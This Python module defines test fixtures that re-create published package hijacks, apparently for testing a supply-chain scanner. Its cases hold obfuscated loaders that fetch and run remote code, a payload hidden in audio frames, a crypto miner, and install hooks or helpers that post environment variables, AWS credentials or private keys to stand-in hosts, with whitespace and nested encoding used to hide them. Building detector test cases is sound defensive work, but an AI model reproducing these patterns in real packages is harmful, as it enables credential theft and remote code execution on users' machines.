"""Published hijacks of honest projects, re-created by us: the same way in, nothing that works behind it.

Hosts lie under ``example.invalid`` and in the documentation ranges; what would be fetched or decoded does nothing.
Each keeps what made the original hard to see, and stands in a project that did something of its own before.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field

_CLIENT = {
    "parley/__init__.py": "from parley.client import Client\n\n__all__ = ['Client']\n",
    "parley/client.py": """\
import requests


class Client:
    def __init__(self, base='https://api.example.invalid'):
        self.base = base
        self.session = requests.Session()

    def get(self, path, **params):
        return self.session.get(self.base + path, params=params, timeout=10).json()
""",
}
_KEYS = {
    "parley/__init__.py": "from parley.keys import Keypair, checksum\n",
    "parley/keys.py": """\
import hashlib


def checksum(address):
    return hashlib.sha256(address.encode()).hexdigest()[:8]


class Keypair:
    @classmethod
    def from_private_key(cls, private_key):
        made = cls()
        made.public = checksum(private_key)
        return made
""",
}
_TRAINER = {
    "parley/__init__.py": "__version__ = '1'\n",
    "parley/downloads.py": """\
import subprocess
from pathlib import Path
from urllib.request import urlretrieve


def safe_download(url, dest):
    Path(dest).parent.mkdir(parents=True, exist_ok=True)
    urlretrieve(url, dest)
    return Path(dest)


def unzip(path):
    subprocess.run(['unzip', str(path)], check=True)
""",
}
_SETUP = "from setuptools import setup\n\nsetup(name='parley', packages=['parley'])\n"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _nested(text: str) -> str:
    data = text.encode()
    for _ in range(3):
        data = base64.b64encode(zlib.compress(data))
    return data.decode()


_STAGE = "import urllib.request as u;exec(u.urlopen('https://files.example.invalid/b').read())"
_FAR = " " * 220


@dataclass(frozen=True, slots=True, kw_only=True)
class Hijack:
    """An honest release and the hijacked one after it."""

    name: str
    before: Mapping[str, str]
    after: Mapping[str, str]
    """Files that the hijacked release adds or changes."""
    source: bool = False
    """An sdist; a wheel otherwise."""
    versions: tuple[str, str] = ("1.4.2", "1.4.3")
    kinds: frozenset[str] = field(default_factory=frozenset)
    """Kinds of what must be named as new."""


HIJACKS = (
    Hijack(
        name="a .pth file with an encoded stealer, listed in RECORD",
        before=_CLIENT,
        after={"parley_init.pth": f"import base64; exec(base64.b64decode('{_b64(_STAGE)}'))\n"},
        kinds=frozenset({"startup", "network"}),
    ),
    Hijack(
        name="a payload between the frames of a sound",
        before=_CLIENT,
        after={
            "parley/client.py": _CLIENT["parley/client.py"]
            + """
import wave, base64, subprocess, sys, tempfile, os

def _tone():
    target = os.path.join(tempfile.mkdtemp(), 'ring.wav')
    with open(target, 'wb') as out:
        out.write(requests.get('http://192.0.2.44/ring.wav').content)
    frames = wave.open(target, 'rb').readframes(4096)
    subprocess.Popen([sys.executable, '-c', base64.b64decode(frames).decode()])

_tone()
"""
        },
        kinds=frozenset({"network", "process"}),
    ),
    Hijack(
        name="an import that fetches a JavaScript runtime and starts a script with it",
        before=_CLIENT,
        after={
            "parley/__init__.py": "from parley import _runtime\nfrom parley.client import Client\n",
            "parley/_runtime.py": """\
import os, platform, subprocess, threading, urllib.request

def _start():
    place = os.path.join(os.path.dirname(__file__), 'bin')
    os.makedirs(place, exist_ok=True)
    runtime = os.path.join(place, 'bun')
    urllib.request.urlretrieve('https://runtime.example.invalid/bun-' + platform.machine(), runtime)
    os.chmod(runtime, 0o755)
    subprocess.Popen([runtime, os.path.join(os.path.dirname(__file__), 'router_runtime.js')])

threading.Thread(target=_start, daemon=True).start()
""",
            "parley/router_runtime.js": "(function(){var _0x1=['inert'];return _0x1[0]})();\n",
        },
        kinds=frozenset({"network", "process"}),
    ),
    Hijack(
        name="an archive of code fetched to /tmp, on one system only",
        before=_CLIENT,
        after={
            "parley/__init__.py": """\
from parley.client import Client
import sys
if sys.platform == 'linux':
    import os, subprocess, requests
    try:
        with open('/tmp/stage.pyz', 'wb') as out:
            out.write(requests.get('https://203.0.113.9/stage.pyz', verify=False).content)
        subprocess.Popen(['python3', '/tmp/stage.pyz'], start_new_session=True)
    except Exception:
        pass
__all__ = ['Client']
"""
        },
        kinds=frozenset({"network", "process"}),
    ),
    Hijack(
        name="a miner slipped into the download helper by a poisoned build",
        before=_TRAINER,
        after={
            "parley/downloads.py": _TRAINER["parley/downloads.py"]
            + """

def safe_run(path):
    import os
    os.chmod(path, 0o770)
    subprocess.Popen([str(path), '-u', '4ABC', '-o', 'stratum+tcp://pool.example.invalid:8080'], start_new_session=True)


safe_run(safe_download('https://files.example.invalid/runner', '/tmp/runner'))
"""
        },
        kinds=frozenset({"network", "process"}),
    ),
    Hijack(
        name="nested decoders that send the environment to a chat, in a client library",
        before=_CLIENT,
        after={
            "parley/client.py": _CLIENT["parley/client.py"]
            + "\nimport zlib, base64\n_x = lambda d: zlib.decompress(base64.b64decode(d))\n"
            + "exec(_x(_x(_x(b'"
            + _nested(
                "import os, requests\nrequests.post('https://chat.example.invalid/api/webhooks/1/x',"
                " json={'content': str(dict(os.environ))})\n"
            )
            + "'))))\n"
        },
        kinds=frozenset({"network", "secrets"}),
    ),
    Hijack(
        name="a hidden PowerShell command in setup.py",
        before={**_CLIENT, "setup.py": _SETUP},
        after={
            "setup.py": "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand "
            + base64.b64encode("Write-Output inert".encode("utf-16-le")).decode()
            + "', shell=True, creationflags=0x08000000)\n"
            + _SETUP
        },
        source=True,
        kinds=frozenset({"process"}),
    ),
    Hijack(
        name="code pushed off the screen by blanks",
        before=_CLIENT,
        after={
            "parley/__init__.py": "from parley.client import Client"
            + _FAR
            + f";import base64;exec(base64.b64decode('{_b64(_STAGE)}'))\n__all__ = ['Client']\n"
        },
        kinds=frozenset({"network"}),
    ),
    Hijack(
        name="a private key sent to a chat bot by a helper that checks addresses",
        before=_KEYS,
        after={
            "parley/keys.py": """\
import hashlib
import threading
import requests


def checksum(address):
    return hashlib.sha256(address.encode()).hexdigest()[:8]


def _report(private_key):
    requests.post('https://api.telegram.org.example.invalid/bot1:x/sendMessage',
                  json={'chat_id': '1', 'text': private_key})


class Keypair:
    @classmethod
    def from_private_key(cls, private_key):
        made = cls()
        made.public = checksum(private_key)
        threading.Thread(target=_report, args=(private_key,)).start()
        return made
"""
        },
        kinds=frozenset({"finding"}),
    ),
    Hijack(
        name="credentials read and posted by a command class",
        before={**_CLIENT, "setup.py": _SETUP},
        after={
            "setup.py": """\
import os
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        import urllib.request
        keys = open(os.path.expanduser('~/.aws/credentials')).read()
        urllib.request.urlopen('https://c.example.invalid/k', data=keys.encode())
        install.run(self)


setup(name='parley', packages=['parley'], cmdclass={'install': Install})
"""
        },
        source=True,
        versions=("2.0.9", "2.1.0"),
        kinds=frozenset({"network", "secrets"}),
    ),
)
